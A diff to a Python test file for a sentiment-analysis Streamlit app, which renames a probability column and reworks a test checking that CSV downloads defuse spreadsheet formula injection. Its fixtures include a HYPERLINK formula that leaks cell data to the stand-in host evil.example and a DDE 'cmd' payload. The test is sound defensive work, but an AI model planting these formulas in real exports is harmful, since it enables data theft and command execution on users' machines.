@@ -15,6 +15,7 @@ from pathlib import Path
 
 import numpy as np
 import optuna
+import pandas as pd
 import pytest
 import streamlit as st
 from streamlit.testing.v1 import AppTest
@@ -75,7 +76,7 @@ def _predictions(capsys: pytest.CaptureFixture[str], n: int, db: str) -> list[di
     assert model.startswith("TF-IDF baseline: ")
     for line in lines:
         assert line["label"] in ("positive", "negative") and 0.5 <= line["score"] <= 1
-        assert 0 <= line["p_positive"] <= 1 and line["model"] == model
+        assert 0 <= line["prob_positive"] <= 1 and line["model"] == model
     return lines
 
 
@@ -226,16 +227,17 @@ FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A
 
 def test_downloads_neutralise_formula_cells_in_every_text_column_only() -> None:
     texts = [*FORMULAS, "A fine film - truly = great", "  =1+1 ", "good\r=1+1"]
-    frame = live_views.batch_frame(texts, [0.9] * len(texts), [None] * len(texts), "=model")
-    frame["id"] = ["-1", "@2", "3", "4", "5", "6", "7", "8", "9"]  # text, as an upload's column
-    frame["delta"] = [-1.5, 2, -3, 4, -5, 6, -7, 8, -9]  # numbers, some negative: left alone
+    uploaded = pd.DataFrame({"text": texts,  # an upload's columns: text, and numbers
+                             "id": ["-1", "@2", "3", "4", "5", "6", "7", "8", "9"],
+                             "delta": [-1.5, 2, -3, 4, -5, 6, -7, 8, -9]})  # some negative
+    frame = live_views.batch_frame(uploaded, [0.9] * len(texts), [None] * len(texts), "=model")
     shown = frame.copy()
     rows = list(csv.DictReader(io.StringIO(views.safe_csv(frame), newline="")))
     assert [r["text"] for r in rows] == ["'" + t for t in FORMULAS] + texts[len(FORMULAS):]
     assert {r["model"] for r in rows} == {"'=model"} and rows[0]["error"] == ""
     assert [r["id"] for r in rows] == ["'-1", "'@2", "3", "4", "5", "6", "7", "8", "9"]
     assert [float(r["delta"]) for r in rows] == [-1.5, 2, -3, 4, -5, 6, -7, 8, -9]
-    assert [float(r["score"]) for r in rows] == [0.9] * len(texts)
+    assert [float(r["prob_positive"]) for r in rows] == [0.9] * len(texts)
     assert frame.equals(shown)  # the page's table keeps the cells as they came
 
 
